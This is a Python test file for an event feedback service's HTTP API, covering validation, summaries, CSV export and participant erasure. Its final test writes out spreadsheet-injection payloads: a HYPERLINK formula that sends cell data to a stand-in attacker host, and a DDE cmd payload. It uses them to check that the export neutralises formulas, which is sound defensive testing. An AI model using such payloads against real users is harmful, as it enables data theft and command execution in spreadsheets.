"""The evaluation over HTTP, in memory: registration and workshops events feed the
feedback service; responses are validated, replaced, summarised and erased."""

import asyncio
import csv
import io

from synergi_shared.runtime import unheard_of
from tests.helpers.evaluation_day import F, answer, put, retrying


async def test_a_response_is_validated_replaced_and_summarised(api, organizer, auth, day) -> None:
    anna = auth("organization", day["orgs"]["A"])
    first = await put(api, day, "Anna", answer(day, rating=2), anna)
    assert first.status_code == 200, first.text
    assert first.json()["version"] == 1
    assert first.json()["workshops"][0]["workshop_id"] == day["workshop"]
    second = await put(api, day, "Anna", answer(day, rating=5, kind="ambition"), anna)
    assert second.json()["version"] == 2
    await put(api, day, "Bo", {**answer(day, rating=3, wish="A")}, organizer)

    summary = (await api.get(f"{F}/summary", headers=organizer)).json()
    assert summary["responses"] == 2
    assert summary["checked_in"] == 2
    assert summary["response_rate"] == 1.0
    assert summary["day"]["average"] == 4.0
    [workshop] = summary["workshops"]
    assert (workshop["count"], workshop["average"]) == (2, 4.0)  # Anna's 5 replaced her 2
    assert workshop["distribution"] == {"1": 0, "2": 0, "3": 1, "4": 0, "5": 1}
    assert summary["themes"][0]["id"] == "co-creation"
    assert {(i["kind"], i["count"]) for i in summary["insights"]} == {("ambition", 1), ("tip", 1)}
    assert {w["organization_id"] for w in summary["most_wished_follow_ups"]} == set(
        day["orgs"].values()
    )

    csv_summary = await api.get(f"{F}/summary.csv", headers=organizer)
    # As spreadsheet programs read it: UTF-8 with a byte-order mark, and a file name.
    assert csv_summary.headers["content-type"] == "text/csv; charset=utf-8"
    assert csv_summary.content.startswith("\ufeffscope,".encode())
    disposition = csv_summary.headers["content-disposition"]
    assert disposition == 'attachment; filename="impact-2026-summary.csv"'
    assert csv_summary.content.decode("utf-8-sig").splitlines()[1].startswith("day,day,2,4.0")
    tips = (await api.get(f"{F}/insights?kind=tip", headers=organizer)).json()
    assert [(i["text"], i["theme"], i["organization_id"]) for i in tips] == [
        ("Measure less, but every month", "co-creation", day["orgs"]["B"])
    ]
    assert len((await api.get(f"{F}/insights?theme=co-creation", headers=organizer)).json()) == 2
    assert (await api.get(f"{F}/insights?kind=wish", headers=organizer)).status_code == 422
    rows = (await api.get(f"{F}/responses.csv", headers=organizer)).text.splitlines()
    assert len(rows) == 3 and "Measure less" in rows[1]


async def test_not_yet_then_never_a_check_in_or_a_participant_it_has_not_heard_of(
    api, organizer, day, monkeypatch
) -> None:
    """What this service has not heard of may be on its way: 409 with
    Retry-After, until PENDING_SECONDS after it was first asked about; then
    the final answer (422 for a rating of a workshop not attended or a wish
    naming an organisation not registered, 404 for an unknown participant)."""
    carl = f"{F}/responses/{day['people']['Carl']}"
    anna = f"{F}/responses/{day['people']['Anna']}"
    wish = {**answer(day), "follow_ups": [{"organization_id": "ghost"}]}
    for path, body, final in (
        (carl, answer(day), 422),
        (f"{F}/responses/ghost", answer(day), 404),
        (anna, wish, 422),
    ):
        not_yet = await api.put(path, json=body, headers=organizer)
        assert not_yet.status_code == 409 and not_yet.headers["Retry-After"], not_yet.text
        assert "still on its way" in not_yet.json()["detail"]
        monkeypatch.setattr(unheard_of, "PENDING_SECONDS", 0)
        never = await api.put(path, json=body, headers=organizer)
        assert never.status_code == final and "Retry-After" not in never.headers, never.text
        monkeypatch.undo()


async def test_an_erased_participant_is_gone(api, organizer, day) -> None:
    anna = day["people"]["Anna"]
    assert (await api.delete(f"/registration/participants/{anna}", headers=organizer)).is_success
    gone = await retrying(
        lambda: api.put(f"{F}/responses/{anna}", json=answer(day), headers=organizer)
    )
    for _ in range(100):  # until the erasure reaches the feedback service
        if gone.status_code == 410:
            break
        await asyncio.sleep(0.02)
        gone = await api.put(f"{F}/responses/{anna}", json=answer(day), headers=organizer)
    assert gone.status_code == 410 and "erased" in gone.json()["detail"]


async def test_bad_answers_get_a_clear_4xx(api, organizer, auth, day, monkeypatch) -> None:
    monkeypatch.setattr(unheard_of, "PENDING_SECONDS", 0)  # the final answers (test above)
    anna = auth("organization", day["orgs"]["A"])
    cases = [
        ("Carl", answer(day), organizer, 422, "not checked in"),
        ("Anna", answer(day, wish="A"), anna, 422, "own organisation"),
        (
            "Anna",
            {**answer(day), "follow_ups": [{"organization_id": "ghost"}]},
            anna,
            422,
            "not registered",
        ),
        ("Anna", {**answer(day), "day_rating": 6}, anna, 422, "day_rating"),
        (
            "Anna",
            {
                **answer(day),
                "workshops": [{"workshop_id": day["workshop"], "rating": 3, "insight": "no kind"}],
            },
            anna,
            422,
            "insight_kind",
        ),
        ("Bo", answer(day, wish="A"), anna, 403, "own organisation"),
    ]
    for name, body, headers, status, needle in cases:
        response = await retrying(
            lambda name=name, body=body, headers=headers: api.put(
                f"{F}/responses/{day['people'][name]}", json=body, headers=headers
            )
        )
        assert response.status_code == status, (name, response.text)
        assert needle in response.text
    unknown = await api.put(f"{F}/responses/ghost", json=answer(day), headers=organizer)
    assert unknown.status_code == 404, unknown.text
    assert (await api.get("/feedback/editions/nope/summary", headers=organizer)).status_code == 404
    assert (await api.get(f"{F}/summary", headers=anna)).status_code == 403
    assert (await api.get(f"{F}/summary", headers=organizer)).json()["responses"] == 0


async def test_erasure_deletes_free_text_and_keeps_anonymous_counts(api, organizer, day) -> None:
    await put(api, day, "Anna", answer(day), organizer)
    assert (
        await api.delete(f"/registration/participants/{day['people']['Anna']}", headers=organizer)
    ).status_code == 204
    for _ in range(100):
        gone = await api.get(f"{F}/responses/{day['people']['Anna']}", headers=organizer)
        if gone.status_code == 404:
            break
        await asyncio.sleep(0.02)
    assert gone.status_code == 404
    rows = (await api.get(f"{F}/responses.csv", headers=organizer)).text
    assert "Measure less" not in rows and "A good day" not in rows
    assert "(erased)" in rows
    summary = (await api.get(f"{F}/summary", headers=organizer)).json()
    assert summary["responses"] == 1 and summary["workshops"][0]["count"] == 1


async def test_an_evaluation_exported_runs_no_formula_in_a_spreadsheet(api, organizer, day) -> None:
    """Whatever a participant typed is shown by a spreadsheet, never run."""
    comment = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")'
    hostile = answer(day, comment=comment)
    hostile["workshops"][0]["insight"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert (await put(api, day, "Anna", hostile, organizer)).status_code == 200
    exported = await api.get(f"{F}/responses.csv", headers=organizer)
    [header, row] = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["comment"] == "'" + comment
    assert cells["insight"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["day_rating"] == "4"  # numbers stay numbers
